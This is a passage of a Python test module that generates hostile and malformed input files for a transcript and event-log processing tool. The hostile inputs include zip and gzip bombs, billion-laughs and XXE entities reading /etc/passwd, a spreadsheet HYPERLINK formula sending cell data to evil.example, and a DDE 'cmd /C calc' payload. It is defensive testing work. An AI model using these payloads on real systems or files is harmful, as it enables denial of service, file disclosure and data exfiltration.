"""A generated corpus of hostile and malformed input files (issue 2, item 8).

Every file is written from code into a folder the tests give (no committed binaries). Each
:class:`Case` names the file, how to build it, which commands to try it with, and what must
happen: ``"ok"`` (exit 0 with sensible output), ``"error"`` (exit 2 with the one-line error) or
``"either"`` (one of the two; never a traceback, a hang or a blown memory).

Bombs are built without ever holding the expanded bytes: deflate segments compressed once with
a full flush are repeated, so a 2 GB member costs ~2 MB on disk and a fraction of a second.
"""

from __future__ import annotations

import gzip
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

__all__ = ["Case", "CASES", "COMMANDS", "MARKER"]

MARKER = "MARKERTEXT"
CHUNK = 16 * 1024 * 1024
BOMB_CHUNKS = 128  # 128 x 16 MB = 2 GiB expanded

TRANSCRIPT_CSV = ("Entrevista,Hablante,Texto\n"
                  "E1,Entrevistadora,¿Cómo fue el trámite del permiso?\n"
                  "E1,Ana,Muy lento: tuve que volver tres veces a la oficina y nadie contestaba el teléfono.\n")
TRANSCRIPT_ROWS = [["Entrevista", "Hablante", "Texto"],
                   ["E1", "Entrevistadora", "¿Cómo fue el trámite del permiso?"],
                   ["E1", "Ana", "Muy lento: tuve que volver tres veces a la oficina."],
                   ["E1", "Ana", MARKER]]
EVENTLOG_CSV = ("case_id,activity,timestamp\n"
                "c1,Solicitud,2024-01-02 09:00:00\nc1,Pago,2024-01-03 10:00:00\n"
                "c2,Solicitud,2024-01-02 11:00:00\nc2,Revisión,2024-01-04 08:30:00\nc2,Pago,2024-01-05 12:00:00\n")
STEPS_HEADER = "Step ID,Step,Channel,Next steps\n"

# (command, argv template). {f} is the file, {db} the database URL, {kind} the --kind words.
COMMANDS = {
    "utterances": ["utterances", "{f}", "--format", "jsonl"],
    "import": ["import", "{f}", "--db", "{db}", "{kind}"],
    "discover": ["discover", "{f}"],
    "extract": ["extract", "{f}", "--format", "jsonl"],
    "journey": ["journey", "--steps", "{f}"],
    "journey_log": ["journey", "--log", "{f}"],
    "journey_painpoints": ["journey", "--steps", "{steps}", "--painpoints", "{f}"],
}
VALID_STEPS_CSV = "Step ID,Step,Channel,Next steps\nA,Solicitar,web,B\nB,Pagar,oficina,\n"
T = ("utterances", "import")          # every transcript-ish file
E = ("import", "discover")            # event logs
EJ = E + ("journey_log",)
S = ("import", "journey")             # steps


@dataclass
class Case:
    """One hostile file and what must happen to it."""

    name: str
    filename: str
    build: Callable[[Path], object]  # writes dir/filename; may return the argv path (str) instead
    commands: tuple = T
    expect: str | dict = "either"   # "ok" | "error" | "either", or {command: ...}
    kind: str | None = None          # --kind for import
    check: Callable | None = None    # extra check(command, result) -> None (asserts)
    notes: str = ""
    timeout: float = 60.0
    extra: dict = field(default_factory=dict)

    def expectation(self, command: str) -> str:
        return self.expect.get(command, "either") if isinstance(self.expect, dict) else self.expect


# --------------------------------------------------------------------------- low-level builders

def _deflate_segment(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


def _deflate_final(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


@cache
def _space_bomb_body() -> tuple[bytes, int]:
    """Raw deflate of BOMB_CHUNKS x 16 MB of spaces (concatenable) and the CRC of that run."""
    chunk = b" " * CHUNK
    seg = _deflate_segment(chunk)
    crc = 0
    c1 = zlib.crc32(chunk)
    for _ in range(BOMB_CHUNKS):
        crc = zlib.crc32(chunk, crc) if crc else c1
    return seg * BOMB_CHUNKS, crc


def _bomb_stream(prefix: bytes, suffix: bytes) -> tuple[bytes, int, int]:
    """(raw deflate, crc32, expanded size) of prefix + 2 GiB of spaces + suffix."""
    body, _ = _space_bomb_body()
    crc = zlib.crc32(prefix)
    chunk = b" " * CHUNK
    for _ in range(BOMB_CHUNKS):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc)
    return _deflate_segment(prefix) + body + _deflate_final(suffix), crc, len(prefix) + CHUNK * BOMB_CHUNKS + len(suffix)


def _write_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> None:
    """Write a zip by hand: members are (name, raw deflate, crc, real size, declared size)."""
    out = io.BytesIO()
    central = []
    for name, raw, crc, _real, declared in members:
        n = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), declared, len(n), 0))
        out.write(n)
        out.write(raw)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw),
                                   declared, len(n), 0, 0, 0, 0, 0, offset) + n)
    cd_start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - cd_start, cd_start, 0))
    path.write_bytes(out.getvalue())


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _rezip(path: Path, data: bytes, replace: dict[str, bytes] | None = None,
           bomb: tuple[str, bytes, bytes] | None = None, lie: bool = False) -> None:
    """Rewrite an Office zip, replacing members; ``bomb`` = (member, prefix, suffix) gets 2 GiB inside."""
    replace = replace or {}
    members = []
    for name, content in _members(data):
        if bomb and name == bomb[0]:
            raw, crc, size = _bomb_stream(bomb[1], bomb[2])
            members.append((name, raw, crc, size, 4096 if lie else size))
            continue
        content = replace.get(name, content)
        members.append((name, _deflate_final(content), zlib.crc32(content), len(content), len(content)))
    _write_zip(path, members)


def _xlsx_bytes(sheets: dict[str, list[list]] | None = None, setup: Callable | None = None) -> bytes:
    from openpyxl import Workbook
    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in (sheets or {"E1": TRANSCRIPT_ROWS}).items():
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(r)
    if setup:
        setup(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _docx_bytes(paragraphs: list[str] | None = None) -> bytes:
    import docx
    d = docx.Document()
    for p in paragraphs if paragraphs is not None else ["Entrevistadora: ¿Cómo fue el trámite?",
                                                      "Ana: Muy lento, volví tres veces.", f"Ana: {MARKER}"]:
        d.add_paragraph(p)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _xes(events_xml: str = "", doctype: str = "") -> str:
    body = events_xml or (
        f'<trace><string key="concept:name" value="c1"/>'
        f'<event><string key="concept:name" value="{MARKER}"/><date key="time:timestamp" value="2024-01-01T10:00:00+00:00"/></event>'
        f'<event><string key="concept:name" value="Pago"/><date key="time:timestamp" value="2024-01-02T10:00:00+00:00"/></event>'
        f'</trace>')
    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
            f'<log xes.version="1.0" xmlns="http://www.xes-standard.org/">{body}</log>')


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _inject(xml: bytes, doctype: str, entity: str) -> bytes:
    text = xml.decode("utf-8")
    if text.startswith("<?xml"):
        end = text.index("?>") + 2
        text = text[:end] + doctype + text[end:]
    else:
        text = doctype + text
    assert MARKER in text, "marker missing from the part"
    return text.replace(MARKER, entity, 1).encode("utf-8")


def _w(content: bytes | str, encoding: str = "utf-8"):
    def build(p: Path):
        p.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return build


# --------------------------------------------------------------------------- checks

def _no_passwd(command, res):
    assert "root:" not in res.stdout and "root:" not in res.stderr, "external entity /etc/passwd leaked"


def _text_kept(needle: str):
    def check(command, res):
        if command == "utterances" and res.rc == 0:
            assert needle in res.stdout, f"{needle[:40]!r} did not survive as text"
    return check


def _records_have_text(*needles: str):
    def check(command, res):
        if command == "utterances" and res.rc == 0:
            for n in needles:
                assert n in res.stdout, f"{n!r} lost from the output"
    return check


def _longest_text_at_least(n: int):
    def check(command, res):
        if command == "utterances" and res.rc == 0:
            import json
            longest = max(len(json.loads(x)["text"]) for x in res.stdout.splitlines() if x.strip())
            assert longest >= n, f"the longest utterance has {longest} characters, expected {n}"
        if command == "import" and res.rc == 0:
            assert "cut" in res.stdout, "the import summary does not say the text was cut"
    return check


# --------------------------------------------------------------------------- file builders

def b_xlsx(sheets=None, setup=None):
    return lambda p: p.write_bytes(_xlsx_bytes(sheets, setup))


def b_truncated(maker):
    def build(p: Path):
        data = maker()
        p.write_bytes(data[: len(data) // 2])
    return build


def b_zip_bomb(kind: str, lie: bool):
    def build(p: Path):
        if kind == "xlsx":
            data = _xlsx_bytes()
            _rezip(p, data, bomb=("xl/worksheets/sheet1.xml", b'<?xml version="1.0" encoding="UTF-8"?>'
                                  b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                  b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
                                  b"</t></is></c></row></sheetData></worksheet>"), lie=lie)
        else:
            data = _docx_bytes()
            _rezip(p, data, bomb=("word/document.xml", b'<?xml version="1.0" encoding="UTF-8"?>'
                                  b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                                  b"<w:body><w:p><w:r><w:t>", b"</w:t></w:r></w:p></w:body></w:document>"), lie=lie)
    return build


def b_deep_json(p: Path):
    p.write_text("[" * 200_000 + "]" * 200_000 + "\n", encoding="utf-8")


def b_deep_xes(p: Path):
    depth = 100_000
    inner = '<list key="l">' * depth + "</list>" * depth
    p.write_text(_xes(events_xml=f'<trace><string key="concept:name" value="c1"/><event>'
                                 f'<string key="concept:name" value="A"/>'
                                 f'<date key="time:timestamp" value="2024-01-01T10:00:00+00:00"/>{inner}</event>'
                                 f'</trace>'), encoding="utf-8")


def b_complete_steps(n: int, sep: str = ", "):
    def build(p: Path):
        ids = [f"S{i}" for i in range(n)]
        rows = "".join(f'{i},Paso {i},web,"{sep.join(x for x in ids if x != i)}"\n' for i in ids)
        p.write_text(STEPS_HEADER + rows, encoding="utf-8")
    return build


def b_long_turn(p: Path):
    with p.open("w", encoding="utf-8") as fh:
        fh.write("Entrevistadora: ¿Cómo le fue?\nAna: ")
        for _ in range(25):
            fh.write("lento " * 350_000)
        fh.write("\n")


def b_edit_part(maker: Callable[[], bytes], part: str, edit: Callable[[str], str]):
    """An Office file whose ``part`` is rewritten by ``edit`` (text in, text out)."""
    def build(p: Path):
        data = maker()
        parts = dict(_members(data))
        _rezip(p, data, replace={part: edit(parts[part].decode("utf-8")).encode("utf-8")})
    return build


def _rows_beyond_excel(xml: str) -> str:
    import re
    return re.sub(r'(<row r=")(\d+)"', lambda m: f'{m.group(1)}{int(m.group(2)) + 2_000_000}"',
                  re.sub(r'(<c r="[A-Z]+)(\d+)"', lambda m: f'{m.group(1)}{int(m.group(2)) + 2_000_000}"', xml))


def _bad_shared_index(xml: str) -> str:
    i = xml.index('t="inlineStr"><is><t>Ana</t></is>')
    return xml[:i] + 't="s"><v>999999</v>' + xml[i + len('t="inlineStr"><is><t>Ana</t></is>'):]


def b_truncated_parquet(p: Path):
    import pandas as pd
    buf = io.BytesIO()
    pd.DataFrame({"case_id": ["c1", "c2"] * 50, "activity": ["A", "B"] * 50,
                  "timestamp": ["2024-01-01"] * 100}).to_parquet(buf)
    data = buf.getvalue()
    p.write_bytes(data[: len(data) - 40])


def b_nested_zip(p: Path):
    inner = _xlsx_bytes()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("interviews.xlsx", inner)
    p.write_bytes(buf.getvalue())


def b_embedded_bomb_xlsx(p: Path):
    """A valid workbook that also carries an embedded zip whose member is a 2 GiB bomb."""
    data = _xlsx_bytes()
    raw, crc, size = _bomb_stream(b"", b"")
    _write_zip_to = Path(str(p) + ".inner")
    _write_zip(_write_zip_to, [("zero.bin", raw, crc, size, size)])
    inner_bytes = _write_zip_to.read_bytes()
    _write_zip_to.unlink()
    members = [(n, _deflate_final(c), zlib.crc32(c), len(c), len(c)) for n, c in _members(data)]
    members.append(("xl/embeddings/inner.zip", _deflate_final(inner_bytes), zlib.crc32(inner_bytes),
                    len(inner_bytes), len(inner_bytes)))
    _write_zip(p, members)


def b_entity_xlsx(doctype: str, entity: str):
    def build(p: Path):
        data = _xlsx_bytes()
        parts = dict(_members(data))
        name = "xl/worksheets/sheet1.xml"  # openpyxl writes inline strings, so the text lives here
        _rezip(p, data, replace={name: _inject(parts[name], doctype, entity)})
    return build


def b_entity_docx(doctype: str, entity: str):
    def build(p: Path):
        data = _docx_bytes()
        parts = dict(_members(data))
        _rezip(p, data, replace={"word/document.xml": _inject(parts["word/document.xml"], doctype, entity)})
    return build


def b_entity_xes(doctype: str, entity: str, gz: bool):
    def build(p: Path):
        text = _xes(doctype=doctype).replace(MARKER, entity, 1).encode()
        p.write_bytes(gzip.compress(text) if gz else text)
    return build


def b_gzip_bomb(p: Path):
    raw, crc, size = _bomb_stream(b'<?xml version="1.0"?><log xes.version="1.0"><trace><string key="concept:name" value="',
                                  b'"/></trace></log>')
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    p.write_bytes(header + raw + struct.pack("<II", crc, size & 0xFFFFFFFF))


def b_gzip_bomb_csv(p: Path):
    raw, crc, size = _bomb_stream(b"case_id,activity,timestamp\nc1,", b",2024-01-01\n")
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    p.write_bytes(header + raw + struct.pack("<II", crc, size & 0xFFFFFFFF))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 4066


def b_stray_cell(p: Path):
    def setup(wb):
        wb["E1"].cell(row=1048576, column=16384, value="x")
    p.write_bytes(_xlsx_bytes(setup=setup))


def b_huge_dimension(p: Path):
    data = _xlsx_bytes()
    parts = dict(_members(data))
    name = "xl/worksheets/sheet1.xml"
    xml = parts[name].decode()
    import re
    if "<dimension" in xml:
        xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
    else:
        xml = xml.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>', 1)
    _rezip(p, data, replace={name: xml.encode()})


def b_wide_xlsx(p: Path):
    header = ["Entrevista", "Hablante", "Texto"] + [f"c{i}" for i in range(4, 16385)]
    rows = [header] + [list(r) for r in TRANSCRIPT_ROWS[1:]]
    p.write_bytes(_xlsx_bytes({"E1": rows}))


def b_many_sheets(p: Path):
    sheets = {f"S{i}": [["nota"], [f"hoja {i}"]] for i in range(999)}
    sheets["E1"] = TRANSCRIPT_ROWS
    p.write_bytes(_xlsx_bytes(sheets))


def b_merged(p: Path):
    rows = [["Transcripción"] + [None] * 5, [None] * 6] + [r + [None] * 3 for r in TRANSCRIPT_ROWS]
    rows += [["E1", "Ana", f"fila {i}", None, None, None] for i in range(40)]

    def setup(wb):
        ws = wb["E1"]
        ws.merge_cells("A1:F2")
        for r in range(7, 47, 2):  # merge text cells over the trailing empty columns, and pairs of rows
            ws.merge_cells(start_row=r, start_column=3, end_row=r + 1, end_column=6)
        ws.merge_cells("D3:F6")
    p.write_bytes(_xlsx_bytes({"E1": rows}, setup))


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)"]


def b_formula_xlsx(p: Path):
    rows = [TRANSCRIPT_ROWS[0]] + [["E1", "Ana", f] for f in FORMULAS]

    def setup(wb):
        for row in wb["E1"].iter_rows(min_row=2):
            row[2].data_type = "s"  # stored as text, as a cell typed by a person with a leading apostrophe
    p.write_bytes(_xlsx_bytes({"E1": rows}, setup))


def b_formula_cells_xlsx(p: Path):
    """Real formula cells (no cached value) in the text column, plus one ordinary answer."""
    rows = [TRANSCRIPT_ROWS[0], ["E1", "Ana", "Tuve que volver tres veces."]] + [["E1", "Ana", f] for f in FORMULAS[:2]]
    p.write_bytes(_xlsx_bytes({"E1": rows}))


def b_formula_csv(p: Path):
    import csv
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["Entrevista", "Hablante", "Texto"])
    for f in FORMULAS:
        w.writerow(["E1", "Ana", f])
    p.write_text(buf.getvalue(), encoding="utf-8")


def b_big_line(p: Path):
    with p.open("wb") as fh:
        for _ in range(50):
            fh.write(b"x" * (1 << 20))


def b_big_cell_csv(p: Path):
    p.write_text("Entrevista,Hablante,Texto\nE1,Ana," + ("muy lento " * 100_001) + "\n", encoding="utf-8")


def b_big_cell_xlsx(p: Path):
    text = "muy lento " * 100_001
    p.write_bytes(_xlsx_bytes({"E1": [TRANSCRIPT_ROWS[0], ["E1", "Ana", text[:32767]], ["E1", "Ana", "ok"]],
                               "E2": [TRANSCRIPT_ROWS[0], ["E2", "Luis", "fin"]]}))
    # Excel caps a cell at 32,767 chars; write the 1M-char string into the sheet's inline string directly
    data = p.read_bytes()
    parts = dict(_members(data))
    name = "xl/worksheets/sheet1.xml"
    xml = parts[name].decode()
    assert text[:32767] in xml
    _rezip(p, data, replace={name: xml.replace(text[:32767], text, 1).encode()})


def b_nul_csv(p: Path):
    p.write_bytes(TRANSCRIPT_CSV.encode().replace(b"tres", b"tr\x00es") + b"E1,Ana,\x00\x00\x00\n")


def b_mixed_encoding(p: Path):
    p.write_bytes(b"Entrevista,Hablante,Texto\n" + "E1,Ana,Trámite en línea\n".encode()
                  + "E1,José,Esperé en la oficina\n".encode("cp1252"))


def b_unclosed_quote(p: Path):
    p.write_text('Entrevista,Hablante,Texto\nE1,Ana,"Muy lento, nunca\nE1,Luis,otra respuesta\n', encoding="utf-8")


def b_10k_columns(p: Path):
    header = ["Entrevista", "Hablante", "Texto"] + [f"c{i}" for i in range(9997)]
    row = ["E1", "Ana", "Muy lento"] + ["" for _ in range(9997)]
    p.write_text(",".join(header) + "\n" + ",".join(row) + "\n", encoding="utf-8")


def b_utf16_nobom(p: Path):
    p.write_bytes(TRANSCRIPT_CSV.encode("utf-16-le"))


def b_vtt_broken(p: Path):
    p.write_text("WEBVTT\n\n1\n00:00:0x.000 --> banana\n<v Ana>Muy lento el trámite\n\n2\n99:99 --> 00:00:01.000\n"
                 "<v Luis>Sí\n\n3\n00:00:05.000 --> 00:00:01.000\n<v Ana>Al revés\n", encoding="utf-8")


def b_vtt_noheader(p: Path):
    p.write_text("00:00:01.000 --> 00:00:02.000\n<v Ana>Muy lento el trámite\n\n00:00:03.000 --> 00:00:04.000\n"
                 "<v Entrevistadora>¿Por qué?\n", encoding="utf-8")


def b_srt_nonnumeric(p: Path):
    p.write_text("uno\n00:00:01,000 --> 00:00:02,000\nAna: Muy lento\n\ndos\n00:00:03,000 --> 00:00:04,000\n"
                 "Luis: Sí\n", encoding="utf-8")


def b_srt_overlap(p: Path):
    p.write_text("1\n00:00:05,000 --> 00:00:09,000\nAna: Muy lento\n\n2\n00:00:01,000 --> 00:00:07,000\n"
                 "Luis: Sí, la fila\n\n2\n00:00:01,000 --> 00:00:07,000\nAna: repetido\n", encoding="utf-8")


def b_docx_empty(p: Path):
    p.write_bytes(_docx_bytes([]))


def b_docx_table_only(p: Path):
    import docx
    d = docx.Document()
    t = d.add_table(rows=2, cols=2)
    t.cell(0, 0).text, t.cell(0, 1).text = "Hablante", "Texto"
    t.cell(1, 0).text, t.cell(1, 1).text = "Ana", "Muy lento"
    d.save(p)


def b_parquet(df_maker):
    def build(p: Path):
        df_maker().to_parquet(p)
    return build


def _pd():
    import pandas as pd
    return pd


def b_many_identical(n: int):
    def build(p: Path):
        with p.open("w", encoding="utf-8") as fh:
            fh.write("case_id,activity,timestamp\n")
            line = "{},Paso{},2024-01-01 00:00:00\n"
            fh.writelines(line.format(i // 4, i % 4) for i in range(n))
    return build


def b_symlink(target: str):
    def build(p: Path):
        try:
            os.symlink(target, p)
        except OSError as exc:  # pragma: no cover - platform without symlinks
            raise RuntimeError(f"cannot symlink: {exc}") from exc
    return build


def b_fifo(p: Path):
    os.mkfifo(p)


def b_dir(p: Path):
    p.mkdir()


def b_missing(p: Path):
    return str(p)  # never created


def b_traversal(p: Path):
    """A real file reached through ../ segments: `sub/../../<dir>/x.csv`."""
    p.write_text(TRANSCRIPT_CSV, encoding="utf-8")
    (p.parent / "sub").mkdir(exist_ok=True)
    return str(p.parent / "sub" / ".." / ".." / p.parent.name / p.name)


def b_random(n: int, seed: int = 7):
    def build(p: Path):
        import random
        r = random.Random(seed)
        p.write_bytes(bytes(r.randrange(256) for _ in range(n)))
    return build


def b_missing_workbook(p: Path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("hello.txt", "not a workbook")
    p.write_bytes(buf.getvalue())


def b_xlsx_named(p: Path):
    p.write_bytes(_xlsx_bytes())


def b_docx_named(p: Path):
    p.write_bytes(_docx_bytes())


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" + b"\x00" * 64

RTL = "مرحبا، الخدمة بطيئة جداً 😡🙏 שלום‏ ‮evil‬ ﷽"


def _steps(rows: list[str]) -> Callable:
    return _w(STEPS_HEADER + "".join(r + "\n" for r in rows))


CASES: list[Case] = [
    # --- empty and nearly empty
    Case("empty_csv", "empty.csv", _w(b""), T + ("discover",), "error"),
    Case("empty_xlsx", "empty.xlsx", _w(b""), T, "error"),
    Case("empty_docx", "vacio.docx", _w(b""), T, "error"),
    Case("whitespace_csv", "blank.csv", _w("  \n\t\n   \n"), T + ("discover",), "error"),
    Case("whitespace_txt", "blank.txt", _w("\n\n   \n\t\n"), T, "error"),
    Case("bom_only_csv", "bom.csv", _w(b"\xef\xbb\xbf"), T, "error"),
    Case("bom_only_vtt", "bom.vtt", _w(b"\xef\xbb\xbf"), T, "error"),
    Case("header_only_csv", "header.csv", _w("Entrevista,Hablante,Texto\n"), T, "error"),
    Case("header_only_xlsx", "header.xlsx", b_xlsx({"E1": [TRANSCRIPT_ROWS[0]]}), T, "error"),
    Case("header_only_eventlog", "log_header.csv", _w("case_id,activity,timestamp\n"), E, "error", kind="eventlog"),
    Case("header_only_steps", "steps_header.csv", _w(STEPS_HEADER), S, "error", kind="steps"),
    Case("only_delimiters_csv", "commas.csv", _w(",,,,\n,,,,\n;;;;\n"), T + ("discover",), "error"),
    # --- wrong extensions
    Case("csv_named_xlsx", "csv.xlsx", _w(TRANSCRIPT_CSV), T, "error"),
    Case("xlsx_named_csv", "xlsx.csv", b_xlsx_named, T + ("discover",), "error"),
    Case("docx_named_xlsx", "docx.xlsx", b_docx_named, T, "error"),
    Case("xlsx_named_docx", "xlsx.docx", b_xlsx_named, T, "error"),
    Case("png_named_vtt", "image.vtt", _w(PNG), T, "error"),
    Case("png_named_txt", "image.txt", _w(PNG), T, "error"),
    Case("csv_named_parquet", "log.parquet", _w(EVENTLOG_CSV), E, "error", kind="eventlog"),
    Case("csv_named_xesgz", "log.xes.gz", _w(EVENTLOG_CSV), E, "error", kind="eventlog"),
    Case("random_bytes_md", "noise.md", b_random(4096), T, "error"),
    Case("random_bytes_csv", "noise.csv", b_random(4096, 3), T + ("discover",), "error"),
    # --- broken containers
    Case("truncated_xlsx", "cut.xlsx", b_truncated(_xlsx_bytes), T, "error"),
    Case("truncated_docx", "cut.docx", b_truncated(_docx_bytes), T, "error"),
    Case("zip_without_workbook", "fake.xlsx", b_missing_workbook, T, "error"),
    Case("nested_zip_xlsx", "nested.xlsx", b_nested_zip, T, "error"),
    Case("embedded_bomb_xlsx", "embedded.xlsx", b_embedded_bomb_xlsx, T, "either",
         notes="valid workbook plus xl/embeddings/inner.zip holding a 2 GiB member"),
    Case("zip_bomb_xlsx", "bomb.xlsx", b_zip_bomb("xlsx", lie=False), T, "error"),
    Case("zip_bomb_docx", "bomb.docx", b_zip_bomb("docx", lie=False), T, "error"),
    Case("zip_bomb_lying_xlsx", "liar.xlsx", b_zip_bomb("xlsx", lie=True), T, "error",
         notes="sheet1.xml declares 4 KB in the zip headers, inflates to 2 GiB"),
    Case("zip_bomb_lying_docx", "liar.docx", b_zip_bomb("docx", lie=True), T, "error",
         notes="document.xml declares 4 KB in the zip headers, inflates to 2 GiB"),
    Case("encrypted_ole_xlsx", "locked.xlsx", _w(OLE), T, "error"),
    Case("old_xls", "old.xls", _w(OLE), T, "error"),
    Case("old_doc", "old.doc", _w(OLE), T, "error"),
    # --- XML attacks
    Case("laughs_xlsx", "laughs.xlsx", b_entity_xlsx(LAUGHS, "&lol9;"), T, "error"),
    Case("xxe_xlsx", "xxe.xlsx", b_entity_xlsx(XXE, "&xxe;"), T, "error", check=_no_passwd),
    Case("laughs_docx", "laughs.docx", b_entity_docx(LAUGHS, "&lol9;"), T, "error"),
    Case("xxe_docx", "xxe.docx", b_entity_docx(XXE, "&xxe;"), T, "error", check=_no_passwd),
    Case("laughs_xes", "laughs.xes", b_entity_xes(LAUGHS, "&lol9;", gz=False), EJ, "error", kind="eventlog"),
    Case("xxe_xes", "xxe.xes", b_entity_xes(XXE, "&xxe;", gz=False), E, "either", kind="eventlog", check=_no_passwd),
    Case("laughs_xes_gz", "laughs.xes.gz", b_entity_xes(LAUGHS, "&lol9;", gz=True), E, "error", kind="eventlog"),
    Case("xxe_xes_gz", "xxe.xes.gz", b_entity_xes(XXE, "&xxe;", gz=True), E, "either", kind="eventlog",
         check=_no_passwd),
    Case("gzip_bomb_xes", "bomb.xes.gz", b_gzip_bomb, E, "error", kind="eventlog",
         notes="each run inflates 1 GB before refusing (~10 s, ~1.1 GB peak): kept to two commands"),
    Case("truncated_xes", "cut.xes", lambda p: p.write_text(_xes()[:150]), E, "error", kind="eventlog"),
    Case("xes_no_traces", "empty_log.xes", lambda p: p.write_text(_xes(events_xml="<global/>")), E, "error",
         kind="eventlog"),
    # --- awkward workbooks
    Case("stray_cell_xfd", "stray.xlsx", b_stray_cell, T, "either", check=_records_have_text(MARKER),
         notes="refused today by a 10,000,000-cell guard naming the stray cell; parsing would be fine too"),
    Case("huge_dimension_tag", "dimension.xlsx", b_huge_dimension, T, "ok", check=_records_have_text(MARKER)),
    Case("columns_16384", "wide.xlsx", b_wide_xlsx, T, "either"),
    Case("sheets_1000", "many.xlsx", b_many_sheets, T, "ok", check=_records_have_text(MARKER)),
    Case("merged_everywhere", "merged.xlsx", b_merged, T, "ok", check=_records_have_text("fila 38")),
    Case("formulas_as_text_xlsx", "formulas.xlsx", b_formula_xlsx, T, "ok",
         check=_records_have_text("cmd|' /C calc'!A0", "HYPERLINK")),
    Case("formula_cells_xlsx", "formula_cells.xlsx", b_formula_cells_xlsx, T, "ok",
         check=_records_have_text("volver tres veces")),
    Case("formulas_as_text_csv", "formulas.csv", b_formula_csv, T, "ok",
         check=_records_have_text("cmd|' /C calc'!A0", "HYPERLINK", "@SUM(A1)")),
    Case("long_cell_1m_xlsx", "long.xlsx", b_big_cell_xlsx, T, "ok", check=_longest_text_at_least(100_000),
         notes="the reader cuts a text at MAX_TEXT_CHARS (100,000) and reports it in `skipped`"),
    # --- awkward text files
    Case("csv_50mb_single_line", "line.csv", b_big_line, T, "error"),
    Case("csv_1m_char_cell", "long.csv", b_big_cell_csv, T + ("extract",), "either"),
    Case("csv_nul_bytes", "nul.csv", b_nul_csv, T, "either"),
    Case("csv_mixed_encodings", "mixed.csv", b_mixed_encoding, T, "either",
         check=_records_have_text("Trámite")),
    Case("csv_unclosed_quote", "quote.csv", b_unclosed_quote, T, "either"),
    Case("csv_10000_columns", "cols.csv", b_10k_columns, T, "either"),
    Case("csv_utf16_no_bom", "utf16.csv", b_utf16_nobom, T, "either", check=_records_have_text("trámite")),
    Case("csv_cr_only_newlines", "mac.csv", _w(TRANSCRIPT_CSV.replace("\n", "\r")), T, "either"),
    Case("txt_no_turns", "notes.txt", _w("Notas de campo\nLa oficina estaba llena.\nNadie atendía.\n"), T, "error"),
    Case("txt_utf16_no_bom", "turns16.txt", _w("Ana: muy lento\nLuis: sí\n".encode("utf-16-le")), T, "either"),
    Case("vtt_broken_timings", "broken.vtt", b_vtt_broken, T, "either"),
    Case("vtt_no_header", "nohead.vtt", b_vtt_noheader, T, "either"),
    Case("srt_nonnumeric_ids", "ids.srt", b_srt_nonnumeric, T, "either"),
    Case("srt_overlapping", "overlap.srt", b_srt_overlap, T, "either"),
    Case("docx_no_paragraphs", "nopar.docx", b_docx_empty, T, "error"),
    Case("docx_table_only", "table.docx", b_docx_table_only, T, "either"),
    Case("rtl_emoji_csv", "rtl.csv", _w("Entrevista,Hablante,Texto\nE1,Entrevistadora,¿Cómo le fue?\nE1,Ana," + RTL + "\n"),
         T + ("extract",), "ok", check=_records_have_text("مرحبا", "😡")),
    # --- event logs
    Case("parquet_wrong_schema", "wrong.parquet", b_parquet(lambda: _pd().DataFrame({"a": [1, 2], "b": ["x", "y"]})),
         E, "error", kind="eventlog"),
    Case("parquet_nested_types", "nested.parquet",
         b_parquet(lambda: _pd().DataFrame({"case_id": [[1], [2]], "activity": [{"a": 1}, {"a": 2}],
                                            "timestamp": ["2024-01-01", "2024-01-02"]})), EJ, "either", kind="eventlog"),
    Case("eventlog_bad_timestamps", "badts.csv",
         _w("case_id,activity,timestamp\nc1,A,ayer\nc1,B,mañana\nc2,A,??\n"), EJ, "error", kind="eventlog"),
